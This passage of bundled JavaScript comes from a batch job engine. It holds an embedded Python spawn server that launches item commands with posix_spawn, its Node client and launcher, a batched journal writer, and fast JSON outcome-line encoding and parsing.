    "# typecheck and test); edit this file, never the generated module.",
    "# Protocol: see spawn-server.ts. One JSON object per line each way; the first request sets",
    "# the base environment, so that what Python itself changes in os.environ at start-up",
    "# (LC_CTYPE, by PEP 538 locale coercion) never reaches a command.",
    "import base64, errno, json, os, selectors, signal, sys, time",
    "",
    "TAIL_BYTES = 16384  # the Node side keeps the last 4000 characters: up to 16 KB of UTF-8",
    "DRAIN_S = 1.0  # after a child exits, how long a grandchild may keep its pipes open",
    "GONE_KILL_GRACE_S = 1.0  # Node gone: from SIGTERM to SIGKILL of the commands left (as KILL_GRACE_MS)",
    "READ_BYTES = 65536",
    "# Children get every signal at its default, as Node's spawn gives them (Python itself",
    "# ignores SIGPIPE and, here, SIGINT: posix_spawn would pass those on).",
    "DEFAULT_SIGNALS = set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}",
    "",
    "",
    "class Child:",
    "    def __init__(self, token, pid):",
    "        self.token = token",
    "        self.pid = pid",
    "        self.status = None  # from waitpid, once the child has exited",
    "        self.drain_until = 0.0",
    "        self.stdin = None  # (fd, memoryview of the bytes left to write)",
    "        self.reading = set()  # stdout and stderr fds not at end of file yet",
    "        self.tails = {}  # fd -> bytearray",
    "        self.keep = None  # bytes of stdout's head to keep for a result (--results)",
    "        self.head = None  # (stdout fd, bytearray of at most keep + 1 bytes)",
    "",
    "",
    "class Server:",
    "    def __init__(self):",
    "        self.selector = selectors.DefaultSelector()",
    "        self.children = {}  # pid -> Child",
    "        self.draining = set()  # exited children whose pipes are still open",
    "        self.base_env = {}",
    "        self.requests = bytearray()",
    "        self.replies = []",
    "        wake_r, self.wake_w = os.pipe()",
    "        os.set_blocking(wake_r, False)",
    "        os.set_blocking(self.wake_w, False)",
    "        signal.set_wakeup_fd(self.wake_w, warn_on_full_buffer=False)",
    "        # A handler (not SIG_DFL) is needed for the wakeup fd to hear SIGCHLD.",
    "        signal.signal(signal.SIGCHLD, lambda signum, frame: None)",
    "        self.selector.register(wake_r, selectors.EVENT_READ, self.on_wakeup)",
    "        os.set_blocking(0, False)",
    "        self.selector.register(0, selectors.EVENT_READ, self.on_requests)",
    "",
    "    def run(self):",
    "        self.reply({\"ready\": True})",
    "        while True:",
    "            self.flush()",
    "            timeout = None",
    "            if self.draining:",
    "                timeout = max(0.0, min(c.drain_until for c in self.draining) - time.monotonic())",
    "            for key, _ in self.selector.select(timeout):",
    "                key.data(key.fd)",
    "            now = time.monotonic()",
    "            for child in [c for c in self.draining if c.drain_until <= now]:",
    "                self.finish(child)",
    "",
    "    def reply(self, message):",
    "        self.replies.append(json.dumps(message, separators=(\",\", \":\")).encode() + b\"\\n\")",
    "",
    "    def flush(self):",
    "        data = memoryview(b\"\".join(self.replies))",
    "        self.replies = []",
    "        try:",
    "            while data:",
    "                data = data[os.write(1, data):]  # blocking: Node always reads",
    "        except BrokenPipeError:",
    "            self.node_gone()  # Node was killed before its end of our stdin was seen closed",
    "",
    "    def on_requests(self, fd):",
    "        try:",
    "            chunk = os.read(fd, 1 << 20)",
    "        except BlockingIOError:",
    "            return",
    "        if not chunk:",
    "            self.node_gone()",
    "        start = 0",
    "        scan_from = len(self.requests)  # the bytes before had no newline",
    "        self.requests += chunk",
    "        end = self.requests.find(b\"\\n\", scan_from)",
    "        while end != -1:",
    "            self.on_request(json.loads(self.requests[start:end]))",
    "            start = end + 1",
    "            end = self.requests.find(b\"\\n\", start)",
    "        del self.requests[:start]",
    "",
    "    def node_gone(self):",
    "        # Node closed our stdin. After a normal end no command is left; if Node was",
    "        # killed (SIGKILL), the commands it started are stopped with it, so none keeps",
    "        # running beside the same item started again by the next, resumed run: SIGTERM,",
    "        # then SIGKILL to every group after GONE_KILL_GRACE_S (a command that ignores",
    "        # SIGTERM, or a grandchild that outlived its shell, would otherwise run on).",
    "        groups = list(self.children)",
    "        for pid in groups:",
    "            try:",
    "                os.killpg(pid, signal.SIGTERM)",
    "            except OSError:",
    "                pass",
    "        deadline = time.monotonic() + GONE_KILL_GRACE_S",
    "        left = set(groups)",
    "        while left and time.monotonic() < deadline:",
    "            for pid in list(left):",
    "                try:",
    "                    if os.waitpid(pid, os.WNOHANG)[0] != 0:",
    "                        left.discard(pid)",
    "                except ChildProcessError:",
    "                    left.discard(pid)",
    "            time.sleep(0.02)",
    "        for pid in groups:",
    "            try:",
    "                os.killpg(pid, signal.SIGKILL)",
    "            except OSError:",
    "                pass",
    "        os._exit(0)",
    "",
    "    def on_request(self, request):",
    "        op = request[\"op\"]",
    "        if op == \"env\":",
    "            self.base_env = {k.encode(): v.encode() for k, v in request[\"env\"].items()}",
    "        elif op == \"spawn\":",
    "            try:",
    "                self.spawn(request)",
    "            except OSError as e:",
    "                name = errno.errorcode.get(e.errno, str(e.errno))",
    "                self.reply({\"token\": request[\"token\"], \"error\": \"%s (%s)\" % (e.strerror, name)})",
    "            except Exception as e:  # e.g. ValueError for a NUL byte: fail the item, not the server",
    "                self.reply({\"token\": request[\"token\"], \"error\": str(e)})",
    "",
    "    def spawn(self, request):",
    "        env = dict(self.base_env)",
    "        for key, value in request[\"env\"].items():",
    "            if value is None:",
    "                env.pop(key.encode(), None)",
    "            else:",
    "                env[key.encode()] = value.encode()",
    "        argv = [a.encode() for a in request[\"argv\"]]",
    "        pipes = []  # stdin, stdout, stderr: (read end, write end)",
    "        try:",
    "            for _ in range(3):",
    "                pipes.append(os.pipe())  # close-on-exec: only the dup2 copies reach the child",
    "            theirs = [pipes[0][0], pipes[1][1], pipes[2][1]]",
    "            actions = [(os.POSIX_SPAWN_DUP2, fd, i) for i, fd in enumerate(theirs)]",
    "            pid = os.posix_spawn(argv[0], argv, env, file_actions=actions, setsid=True, setsigdef=DEFAULT_SIGNALS)",
    "        except BaseException:",
    "            for fd in (fd for pipe in pipes for fd in pipe):",
    "                os.close(fd)",
    "            raise",
    "        for fd in theirs:",
    "            os.close(fd)",
    "        ours = [pipes[0][1], pipes[1][0], pipes[2][0]]",
    "        child = Child(request[\"token\"], pid)",
    "        self.children[pid] = child",
    "        if request.get(\"keep\") is not None:",
    "            child.keep = request[\"keep\"]",
    "            child.head = (pipes[1][0], bytearray())",
    "        self.reply({\"token\": child.token, \"pid\": pid})",
    "        stdin, stdout, stderr = ours",
    "        for fd in ours:",
    "            os.set_blocking(fd, False)",
    "        for fd in (stdout, stderr):",
    "            child.reading.add(fd)",
    "            child.tails[fd] = bytearray()",
    "            self.selector.register(fd, selectors.EVENT_READ, lambda fd, c=child: self.on_output(c, fd))",
    "        child.stdin = (stdin, memoryview(request[\"stdin\"].encode()))",
    "        self.write_stdin(child)",
    "        if child.stdin:",
    "            self.selector.register(stdin, selectors.EVENT_WRITE, lambda fd, c=child: self.write_stdin(c))",
    "",
    "    def write_stdin(self, child):",
    "        fd, data = child.stdin",
    "        try:",
    "            while data:",
    "                data = data[os.write(fd, data):]",
    "        except BlockingIOError:",
    "            child.stdin = (fd, data)",
    "            return",
    "        except OSError:",
    "            pass  # EPIPE: the command closed its input early, or never reads it",
    "        self.close_stdin(child)",
    "",
    "    def close_stdin(self, child):",
    "        if child.stdin is None:",
    "            return",
    "        fd = child.stdin[0]",
    "        child.stdin = None",
    "        if fd in self.selector.get_map():",
    "            self.selector.unregister(fd)",
    "        os.close(fd)",
    "",
    "    def on_output(self, child, fd):",
    "        try:",
    "            chunk = os.read(fd, READ_BYTES)",
    "        except BlockingIOError:",
    "            return",
    "        except OSError:",
    "            chunk = b\"\"  # unreadable: treat it as the end of the output",
    "        if chunk:",
    "            if child.head is not None and child.head[0] == fd and len(child.head[1]) <= child.keep:",
    "                child.head[1].extend(chunk[: child.keep + 1 - len(child.head[1])])",
    "            tail = child.tails[fd]",
    "            tail += chunk",
    "            if len(tail) > 2 * TAIL_BYTES:",
    "                del tail[:-TAIL_BYTES]",
    "            return",
    "        self.selector.unregister(fd)",
    "        os.close(fd)",
    "        child.reading.discard(fd)",
    "        if child.status is not None and not child.reading:",
    "            self.finish(child)",
    "",
    "    def on_wakeup(self, fd):",
    "        try:",
    "            while os.read(fd, 4096):",
    "                pass",
    "        except BlockingIOError:",
    "            pass",
    "        while True:",
    "            try:",
    "                pid, status = os.waitpid(-1, os.WNOHANG)",
    "            except ChildProcessError:",
    "                return",
    "            if pid == 0:",
    "                return",
    "            child = self.children.get(pid)",
    "            if child is None:",
    "                continue",
    "            child.status = status",
    "            if child.reading:",
    "                child.drain_until = time.monotonic() + DRAIN_S",
    "                self.draining.add(child)",
    "            else:",
    "                self.finish(child)",
    "",
    "    def finish(self, child):",
    "        self.draining.discard(child)",
    "        del self.children[child.pid]",
    "        self.close_stdin(child)",
    "        for fd in child.reading:",
    "            self.selector.unregister(fd)",
    "            os.close(fd)",
    "        status = child.status",
    "        message = {\"token\": child.token}",
    "        if os.WIFSIGNALED(status):",
    "            number = os.WTERMSIG(status)",
    "            try:",
    "                message[\"signal\"] = signal.Signals(number).name",
    "            except ValueError:",
    "                message[\"signal\"] = \"SIG%d\" % number",
    "        else:",
    "            message[\"code\"] = os.WEXITSTATUS(status)",
    "        if message.get(\"code\") == 0 and child.head is not None:",
    "            message[\"out\"] = base64.b64encode(bytes(child.head[1][: child.keep])).decode()",
    "            message[\"over\"] = len(child.head[1]) > child.keep",
    "        if message.get(\"code\") != 0:",
    "            stdout, stderr = (bytes(t[-TAIL_BYTES:]) for t in child.tails.values())",
    "            message[\"stdout\"] = base64.b64encode(stdout).decode()",
    "            message[\"stderr\"] = base64.b64encode(stderr).decode()",
    "        self.reply(message)",
    "",
    "",
    "def main():",
    "    if sys.version_info < (3, 8) or not hasattr(os, \"posix_spawn\"):",
    "        sys.exit(\"python 3.8 or later with os.posix_spawn is required\")",
    "    signal.signal(signal.SIGINT, signal.SIG_IGN)",
    "    # Prove posix_spawn with setsid works here before saying ready.",
    "    pid = os.posix_spawn(\"/bin/sh\", [b\"/bin/sh\", b\"-c\", b\":\"], {}, setsid=True)",
    "    os.waitpid(pid, 0)",
    "    Server().run()",
    "",
    "",
    "main()",
    "",
].join("\n");

;// CONCATENATED MODULE: ./src/core/handlers/command/spawn-server.ts



/**
 * Client of the spawn server (spawn-server-source.ts), a Python process that starts item
 * commands with posix_spawn, much faster than Node can fork itself. Protocol, one JSON
 * object per line: Node sends {"op":"env","env":{…}} once, then
 * {"op":"spawn","token","argv","env":{name: value|null},"stdin"} per command; the
 * server answers {"ready":true} at start, then per command {"token","pid"} as soon as it is
 * started (each command leads its own session and process group, so Node stops it with
 * process.kill(-pid)) and {"token","code"|"signal","stdout","stderr"} when it has exited
 * and its pipes are closed (at most 1 s after the exit, if a grandchild holds them), or
 * {"token","error"} when it could not be started.
 *
 * The server runs in its own process group, so a terminal's Ctrl-C reaches only the
 * engine, which then stops the commands itself; it exits when its standard input closes,
 * which also happens when Node is killed.
 */
class SpawnServer {
    child;
    pending = new Map();
    nextToken = 1;
    received = "";
    stderr = new OutputTail();
    deathReason;
    ready;
    settleReady = () => { };
    constructor(child, options) {
        this.child = child;
        const startTimeoutMs = options.startTimeoutMs ?? 10_000;
        this.ready = new Promise((resolve, reject) => {
            const cancelTimer = options.system.setTimer(() => {
                this.die(`not ready after ${startTimeoutMs} ms`);
                this.kill();
            }, startTimeoutMs);
            this.settleReady = (error) => {
                cancelTimer();
                if (error)
                    reject(error);
                else
                    resolve();
            };
        });
        child.stdin?.on("error", () => { }); // a broken pipe means a dead server: 'close' tells the attempts
        child.stderr?.on("data", (c) => this.stderr.push(c));
        child.stdout?.setEncoding("utf8");
        child.stdout?.on("data", (text) => this.onData(text));
        child.on("error", (error) => this.die(error.message));
        child.on("close", (code, signal) => this.die(code === null ? `killed by ${signal}` : `exit code ${code}`));
        const env = Object.fromEntries(Object.entries(options.env)
            .filter(([, v]) => v !== undefined)
            .map(([k, v]) => [k, wellFormed(v)]));
        this.send({ op: "env", env });
    }
    /** Starts a server; rejects when it cannot (no python3, too old, not ready in time). */
    static async start(options) {
        // -I: no PYTHON* variables, no user site; -S: no site-packages either (their .pth files
        // run code at start-up). The server needs the standard library only.
        const child = options.system.spawn(options.python, ["-I", "-S", "-c", SPAWN_SERVER_SOURCE], {
            cwd: options.cwd,
            env: options.env,
            detached: true,
            stdio: ["pipe", "pipe", "pipe"],
        });
        const server = new SpawnServer(child, options);
        await server.ready;
        if (server.pending.size === 0)
            server.idle();
        return server;
    }
    /** True once the server has exited, or its pipes broke: start another one. */
    get dead() {
        return this.deathReason !== undefined;
    }
    spawn(request, onStarted) {
        if (this.deathReason !== undefined)
            return Promise.resolve({ kind: "lost", message: `spawn server died: ${this.deathReason}` });
        const token = this.nextToken++;
        if (this.pending.size === 0)
            this.busy();
        return new Promise((resolve) => {
            this.pending.set(token, { onStarted, resolve });
            const env = Object.fromEntries(Object.entries(request.env).map(([k, v]) => [k, v === undefined ? null : wellFormed(v)]));
            this.send({
                op: "spawn",
                token,
                argv: request.argv.map(wellFormed),
                env,
                stdin: wellFormed(request.stdin),
                keep: request.keepStdoutBytes ?? null,
            });
        });
    }
    /** Ends the server: it exits when its standard input closes. */
    close() {
        this.child.stdin?.end();
    }
    onData(text) {
        for (const line of this.lines(text)) {
            let message;
            try {
                message = JSON.parse(line);
            }
            catch {
                this.die(`unreadable reply ${JSON.stringify(line.slice(0, 100))}`);
                this.kill();
                return;
            }
            if ("ready" in message)
                this.settleReady();
            else
                this.onReply(message);
        }
    }
    onReply(reply) {
        const pending = this.pending.get(reply.token);
        if (!pending)
            return;
        if (reply.pid !== undefined)
            return pending.onStarted(reply.pid);
        this.pending.delete(reply.token);
        if (this.pending.size === 0)
            this.idle();
        if (reply.error !== undefined)
            return pending.resolve({ kind: "not-started", message: reply.error });
        pending.resolve({
            kind: "exited",
            code: reply.code ?? null,
            signal: reply.signal ?? null,
            output: outputOf(reply),
            ...(reply.out === undefined ? {} : { stdout: Buffer.from(reply.out, "base64"), stdoutOverflow: reply.over === true }),
        });
    }
    die(reason) {
        if (this.deathReason !== undefined)
            return;
        const stderr = this.stderr.value(5);
        this.deathReason = stderr ? `${reason}: ${stderr}` : reason;
        this.settleReady(new Error(this.deathReason));
        for (const { resolve } of this.pending.values())
            resolve({ kind: "lost", message: `spawn server died: ${this.deathReason}` });
        this.pending.clear();
        this.idle();
    }
    kill() {
        if (this.child.pid !== undefined)
            killGroup(this.child.pid, "SIGKILL");
    }
    send(message) {
        this.child.stdin?.write(JSON.stringify(message) + "\n");
    }
    *lines(text) {
        this.received += text;
        let end = this.received.indexOf("\n");
        while (end !== -1) {
            yield this.received.slice(0, end);
            this.received = this.received.slice(end + 1);
            end = this.received.indexOf("\n");
        }
    }
    // An idle server must not keep Node's event loop alive; a busy one must, like a child would.
    busy() {
        for (const handle of this.handles())
            handle.ref();
    }
    idle() {
        for (const handle of this.handles())
            handle.unref();
    }
    handles() {
        const { stdin, stdout, stderr } = this.child;
        return [this.child, stdin, stdout, stderr].filter((h) => h !== null);
    }
}
/** The failure text the Node path gives: the stderr tail, or the stdout tail when stderr is empty. */
function outputOf(reply) {
    const tail = (base64) => {
        const t = new OutputTail();
        if (base64)
            t.push(Buffer.from(base64, "base64"));
        return t.value();
    };
    return tail(reply.stderr) || tail(reply.stdout);
}
/** Lone surrogates become U+FFFD, as Node's own spawn encodes them (Python would refuse them). */
function wellFormed(text) {
    return LONE_SURROGATE.test(text) ? text.replace(LONE_SURROGATE_ALL, "\uFFFD") : text;
}
const LONE_SURROGATE = /\p{Cs}/u;
const LONE_SURROGATE_ALL = /\p{Cs}/gu;

;// CONCATENATED MODULE: ./src/core/handlers/command/server-launcher.ts

/** After this many servers died mid-run, the rest of the run uses the fallback. */
const MAX_SERVER_DEATHS = 3;
/**
 * Runs `/bin/sh -c command` through a spawn server, started at once. When no
 * server can start (no python3, too old), every launch goes to the fallback (Node's own
 * spawn). A server that dies fails the attempts it was running (as "lost"); the next
 * launch starts a new one, up to MAX_SERVER_DEATHS times.
 */
function createServerLauncher(options, fallback) {
    let server;
    let starting;
    let deaths = 0;
    let useFallback = false;
    let closed = false;
    const start = async () => {
        try {
            server = await SpawnServer.start(options);
            if (closed)
                server.close();
            return server;
        }
        catch (error) {
            useFallback = true;
            options.onFallback?.(`could not start ${options.python}: ${error.message}`);
            return undefined;
        }
        finally {
            starting = undefined;
        }
    };
    const current = () => {
        if (useFallback)
            return undefined;
        if (server?.dead) {
            server = undefined;
            if (++deaths >= MAX_SERVER_DEATHS) {
                useFallback = true;
                options.onFallback?.(`the spawn server died ${deaths} times`);
            }
            return current();
        }
        return server ?? (starting ??= start());
    };
    // Start now, while the engine reads its items: the interpreter takes 20-250 ms to start.
    void current();
    return {
        async launch(request, onStarted) {
            const s = await current();
            if (s === undefined || closed)
                return fallback.launch(request, onStarted);
            return s.spawn({ argv: ["/bin/sh", "-c", options.command], env: request.env, stdin: request.stdin, keepStdoutBytes: request.keepStdoutBytes }, onStarted);
        },
        close() {
            closed = true;
            server?.close();
            fallback.close();
        },
    };
}

;// CONCATENATED MODULE: ./src/core/state/journal-writer.ts


/**
 * Appends journal lines in batches: a line is buffered in memory and written within
 * flushIntervalMs (or at once when the buffer grows large, or on flush()). write(2) puts
 * the bytes in the kernel's page cache, which survives the process being SIGKILLed, so
 * at most one flush interval of completions can be lost to a kill — those items run
 * again on resume, which is why every item carries an idempotency key.
 *
 * A write that fails (ENOSPC, EIO, a vanished folder) never throws out of the flush timer
 * (that would end the process with a stack trace and the lock left): the file is cut back
 * to its last whole line, the writer stops writing, and onError is told once.
 */
class JournalWriter {
    path;
    system;
    flushIntervalMs;
    maxBufferedBytes;
    onError;
    fs;
    fd;
    /** Where the next write starts: the end of the last whole write. */
    endOffset = 0;
    /**
     * The lines not written yet, as UTF-8 bytes: each line is encoded into this buffer as it
     * comes (a string of joined lines, converted at each flush, was the largest single cost
     * of a million no-op items after the items' own reading; and it lived through young-gen
     * collections, each copying it). Allocated at the first append.
     */
    buffer;
    used = 0;
    /** Lines appended since the last encoding, fewer than JOIN_CHARS characters of them. */
    joined = "";
    cancelTimer;
    /** Bytes written to this journal file by this writer. */
    bytesWritten = 0;
    /** The first write error; once set, nothing more is written. */
    failure;
    constructor(path, system, flushIntervalMs, 
    /** Written once this many bytes are buffered: a 64 KiB write costs little more per byte than a larger one. */
    maxBufferedBytes = 1 << 16, onError, 
    /** The file operations (a test injects a failing write). */
    fs = { writeSync: external_node_fs_.writeSync }) {
        this.path = path;
        this.system = system;
        this.flushIntervalMs = flushIntervalMs;
        this.maxBufferedBytes = maxBufferedBytes;
        this.onError = onError;
        this.fs = fs;
    }
    append(line) {
        if (this.failure !== undefined)
            return;
        // Lines are joined into a short string first, encoded a few KiB at a time: one
        // Buffer.write per line cost as much as the string it saved.
        this.joined += line;
        if (this.used + this.joined.length >= this.maxBufferedBytes)
            return this.flush();
        if (this.joined.length >= JOIN_CHARS)
            this.encodeJoined();
        this.armTimer();
    }
    /** Buffered lines are written within flushIntervalMs. */
    armTimer() {
        if (this.cancelTimer === undefined) {
            this.cancelTimer = this.system.setTimer(() => {
                this.cancelTimer = undefined;
                this.flush();
            }, this.flushIntervalMs);
        }
    }
    /**
     * Where up to maxBytes of one line may be written into `bytes` now, after every line
     * appended before it; -1 when they cannot be (the writer failed, or the line is larger
     * than the buffer): the caller then appends the line as a string. Finish with wrote().
     */
    room(maxBytes) {
        if (this.failure !== undefined)
            return -1;
        if (this.joined.length > 0)
            this.encodeJoined();
        if (this.used + maxBytes > this.capacity()) {
            const bytes = this.buffer.subarray(0, this.used);
            this.used = 0;
            this.writeNow(bytes);
            if (this.failure !== undefined || maxBytes > this.capacity())
                return -1;
        }
        return this.used;
    }
    /** The buffer room() points into. */
    get bytes() {
        return this.buffer;
    }
    /** The line written at room()'s offset ends at `end` (just past its newline). */
    wrote(end) {
        this.used = end;
        if (this.used >= this.maxBufferedBytes)
            return this.flush();
        this.armTimer();
    }
    /** Writes everything buffered now (synchronously, so a signal handler can rely on it). */
    flush() {
        if (this.cancelTimer) {
            this.cancelTimer();
            this.cancelTimer = undefined;
        }
        if (this.failure !== undefined)
            return;
        this.encodeJoined();
        if (this.used === 0 || this.failure !== undefined)
            return;
        const bytes = this.buffer.subarray(0, this.used);
        this.used = 0;
        this.writeNow(bytes);
    }
    /** Moves the joined lines into the byte buffer (writing the buffer out first when they may not fit). */
    encodeJoined() {
        const text = this.joined;
        if (text.length === 0)
            return;
        this.joined = "";
        // A UTF-16 unit takes at most 3 bytes of UTF-8: room for that is room for the text.
        if (this.used + 3 * text.length > this.capacity()) {
            const bytes = this.buffer.subarray(0, this.used);
            this.used = 0;
            this.writeNow(bytes);
            if (this.failure !== undefined)
                return;
            if (3 * text.length > this.capacity())
                return this.writeNow(Buffer.from(text, "utf8"));
        }
        this.used += this.buffer.write(text, this.used, "utf8");
    }
    /** The buffer's size, allocating it at the first use: twice the flush size, so a full one is rare. */
    capacity() {
        this.buffer ??= Buffer.allocUnsafeSlow(2 * this.maxBufferedBytes);
        return this.buffer.length;
    }
    writeNow(bytes) {
        try {
            this.write(bytes);
        }
        catch (error) {
            this.fail(error);
        }
    }
    write(bytes) {
        if (this.fd === undefined) {
            (0,external_node_fs_.mkdirSync)((0,external_node_path_.dirname)(this.path), { recursive: true });
            this.fd = (0,external_node_fs_.openSync)(this.path, "a+");
            this.endOffset = (0,external_node_fs_.fstatSync)(this.fd).size;
            // A journal that ends mid-line (a write torn by a kill) gets a newline first: the
            // first record of this run must start a line of its own, not finish the fragment.
            if (!endsWithNewline(this.fd, this.endOffset))
                this.writeAll(NEWLINE);
        }
        this.writeAll(bytes);
    }
    writeAll(bytes) {
        let offset = 0;
        while (offset < bytes.length)
            offset += this.fs.writeSync(this.fd, bytes, offset);
        this.bytesWritten += bytes.length;
        this.endOffset += bytes.length;
    }
    fail(error) {
        this.failure = error;
        // A partial write would leave a torn line the next run appends onto: cut it off.
        if (this.fd !== undefined) {
            try {
                (0,external_node_fs_.ftruncateSync)(this.fd, this.endOffset);
            }
            catch {
                // the load ignores a torn last line anyway
            }
        }
        this.onError?.(error);
    }
    close() {
        this.flush();
        if (this.fd !== undefined) {
            try {
                (0,external_node_fs_.closeSync)(this.fd);
            }
            catch (error) {
                if (this.failure === undefined)
                    this.fail(error);
            }
        }
        this.fd = undefined;
    }
}
const NEWLINE = Buffer.from("\n");
/** Lines are encoded this many characters at a time (short-lived strings, few calls). */
const JOIN_CHARS = 4096;
/** True for an empty file or one whose last byte is a newline. */
function endsWithNewline(fd, size) {
    if (size === 0)
        return true;
    const last = Buffer.alloc(1);
    (0,external_node_fs_.readSync)(fd, last, 0, 1, size - 1);
    return last[0] === 0x0a;
}

;// CONCATENATED MODULE: ./src/core/state/line-bytes.ts
/**
 * Writing the two per-item lines (the journal's done record, the job log's success) as
 * bytes straight into the writer's buffer. Built as strings, each line was a rope of a
 * few pieces that the writer then flattened and encoded: about 0.2 µs per line, a fifth
 * of the engine's whole per-item cost at a million no-op items. These helpers cover the
 * common case only (an id of printable ASCII that JSON writes as it is); anything else
 * returns -1 and the caller writes the line as a string, with the same bytes.
 */
/** Copies `from` (its first `length` bytes) to `bytes` at p; returns the end. A loop: for a few dozen bytes it beats set(). */
function putBytes(bytes, p, from, length = from.length) {
    for (let i = 0; i < length; i++)
        bytes[p++] = from[i];
    return p;
}
/**
 * Copies a JSON string's characters (without quotes) to `bytes` at p when JSON.stringify
 * writes each as it is and as one byte: printable ASCII other than `"` and `\`. Returns
 * the end, or -1 at the first other character (nothing is committed: the caller gives up).
 */
function putPlainJsonChars(bytes, p, text) {
    for (let i = 0; i < text.length; i++) {
        const c = text.charCodeAt(i);
        if (!isPlainJsonChar(c))
            return -1;
        bytes[p++] = c;
    }
    return p;
}
/** putPlainJsonChars for text held as bytes: from[start, end) copied to `bytes` at p; the end, or -1. */
function putPlainJsonBytes(bytes, p, from, start, end) {
    for (let i = start; i < end; i++) {
        const c = from[i];
        if (!isPlainJsonChar(c))
            return -1;
        bytes[p++] = c;
    }
    return p;
}
/** A character JSON.stringify writes in a string as it is, in one byte: printable ASCII but `"` and `\`. */
function isPlainJsonChar(c) {
    return c >= 0x20 && c <= 0x7e && c !== 0x22 && c !== 0x5c;
}
/** Writes a number as String(x) would (digits by hand for a non-negative safe integer); returns the end. */
function putNumber(bytes, p, x) {
    if (!Number.isSafeInteger(x) || x < 0) {
        const text = String(x);
        for (let i = 0; i < text.length; i++)
            bytes[p++] = text.charCodeAt(i);
        return p;
    }
    let digits = 1;
    for (let v = x; v >= 10; v = Math.floor(v / 10))
        digits++;
    let end = p + digits;
    let v = x;
    do {
        const q = Math.floor(v / 10);
        bytes[--end] = 0x30 + (v - q * 10);
        v = q;
    } while (v > 0);
    return p + digits;
}
/** The most characters String(x) has for any number x (as in "-1.2345678901234567e+308"). */
const MAX_NUMBER_CHARS = 24;

;// CONCATENATED MODULE: ./src/core/outcomes/outcome-lines.ts

/** Collects a segment's result fields for its keys line. */
class ResultKeys {
    keys = new Set();
    plain = false;
    add(result) {
        if (typeof result === "object" && result !== null && !Array.isArray(result))
            for (const key of Object.keys(result))
                this.keys.add(key);
        else if (result !== undefined)
            this.plain = true;
    }
    line() {
        const line = { t: "keys", keys: [...this.keys], plain: this.plain };
        return JSON.stringify(line) + "\n";
    }
}
function parseKeysLine(text) {
    if (!text.startsWith('{"t":"keys"'))
        return undefined;
    try {
        const v = JSON.parse(text);
        return Array.isArray(v.keys) && typeof v.plain === "boolean" ? v : undefined;
    }
    catch {
        return undefined;
    }
}
/** Quotes an id as JSON: by hand when JSON.stringify would leave it as it is (the hot path). */
function jsonString(text) {
    for (let i = 0; i < text.length; i++) {
        const c = text.charCodeAt(i);
        if (c < 0x20 || c === 0x22 || c === 0x5c || (c >= 0xd800 && c <= 0xdfff))
            return JSON.stringify(text);
    }
    return '"' + text + '"';
}
/** What a success and a failure line start with: the id, when it started, how long, attempts. */
function outcomeHead(id, startedAtMs, durationMs, attempts) {
    return '{"id":' + jsonString(id) + ',"at":' + startedAtMs + ',"ms":' + durationMs + ',"n":' + attempts;
}
const SUCCESS_ID = Buffer.from('{"id":"', "latin1");
const SUCCESS_AT = Buffer.from('","at":', "latin1");
const SUCCESS_MS = Buffer.from(',"ms":', "latin1");
const SUCCESS_N = Buffer.from(',"n":', "latin1");
const SUCCESS_END = Buffer.from("}\n", "latin1");
/**
 * Appends a plain success line (no extra members, no result) as bytes straight into the
 * writer's buffer when the id allows (state/line-bytes.ts), else as successLine's string:
 * the same bytes either way. The per-item hot path of the job log.
 */
function appendSuccessLine(writer, id, startedAtMs, durationMs, attempts) {
    const start = writer.room(SUCCESS_FIXED_BYTES + id.length + 3 * MAX_NUMBER_CHARS);
    if (start !== -1) {
        const bytes = writer.bytes;
        let p = putPlainJsonChars(bytes, putBytes(bytes, start, SUCCESS_ID), id);
        if (p !== -1) {
            p = putBytes(bytes, p, SUCCESS_AT);
            if (startedAtMs !== lastAt.ms) {
                lastAt.length = putNumber(lastAt.bytes, 0, startedAtMs);
                lastAt.ms = startedAtMs;
            }
            p = putBytes(bytes, p, lastAt.bytes, lastAt.length);
            p = putNumber(bytes, putBytes(bytes, p, SUCCESS_MS), durationMs);
            p = putNumber(bytes, putBytes(bytes, p, SUCCESS_N), attempts);
            return writer.wrote(putBytes(bytes, p, SUCCESS_END));
        }
    }
    writer.append(successLine(id, startedAtMs, durationMs, attempts, "", undefined));
}
/**
 * The last start time written, as digits: items that start in the same millisecond (most
 * of them, at thousands a second) copy these rather than work out thirteen digits again.
 */
const lastAt = { ms: Number.NaN, bytes: Buffer.alloc(MAX_NUMBER_CHARS), length: 0 };
const SUCCESS_FIXED_BYTES = SUCCESS_ID.length + SUCCESS_AT.length + SUCCESS_MS.length + SUCCESS_N.length + SUCCESS_END.length;
/** A success line; `resultJson` is the result already serialised (undefined: none). */
function successLine(id, startedAtMs, durationMs, attempts, extra, resultJson) {
    return outcomeHead(id, startedAtMs, durationMs, attempts) + extra + (resultJson === undefined ? "}\n" : ',"r":' + resultJson + "}\n");
}
function failureLine(id, startedAtMs, durationMs, attempts, kind, error, exitCode, extra) {
    return (outcomeHead(id, startedAtMs, durationMs, attempts) +
        ',"k":"' +
        kind +
        '","e":' +
        JSON.stringify(error) +
        (exitCode === undefined ? "" : ',"x":' + exitCode) +
        extra +
        "}\n");
}
/** The members every line of a run shares beyond the header (redo, pass), as JSON text. */
function extraMembers(o) {
    return (o.redone ? ',"redo":1' : "") + (o.pass === undefined ? "" : ',"pass":' + o.pass);
}
/** Reads a line; undefined for a torn or foreign line. */
function parseLine(text) {
    if (text.length === 0 || text.charCodeAt(0) !== 0x7b)
        return undefined;
    let value;
    try {
        value = JSON.parse(text);
    }
    catch {
        return undefined;
    }
    if (typeof value !== "object" || value === null)
        return undefined;
    const v = value;
    if (v.t === "seg")
        return typeof v.seq === "number" ? v : undefined;
    if (typeof v.id !== "string" || typeof v.at !== "number" || typeof v.ms !== "number" || typeof v.n !== "number")
        return undefined;
    return v;
}
/** The id of an outcome line without parsing the rest (pass one of `results`); undefined for a header. */
function outcome_lines_idOfLine(text, keep = false) {
    if (!text.startsWith('{"id":"'))
        return undefined;
    const end = text.indexOf('"', 7);
    if (end === -1)
        return undefined;
    const raw = text.slice(7, end);
    // A copy, not a slice: a slice keeps the whole chunk of the file it came from alive, and
    // a map of a million ids would hold the whole job log in memory.
    if (raw.indexOf("\\") === -1)
        return keep ? flat(raw) : raw;
    // An escape inside: let JSON find the string's real end.
    return parseLine(text)?.id;
}
/** A string of its own (V8 copies a short string when a one-character prefix is sliced off a concatenation). */
function flat(text) {
    return (" " + text).slice(1);
}
/** True when an outcome line is a success, without parsing it: failures carry "k". */
function isSuccessLine(text) {
    // A failure's "k" follows "n" at once (failureLine writes it so); outside a JSON string a
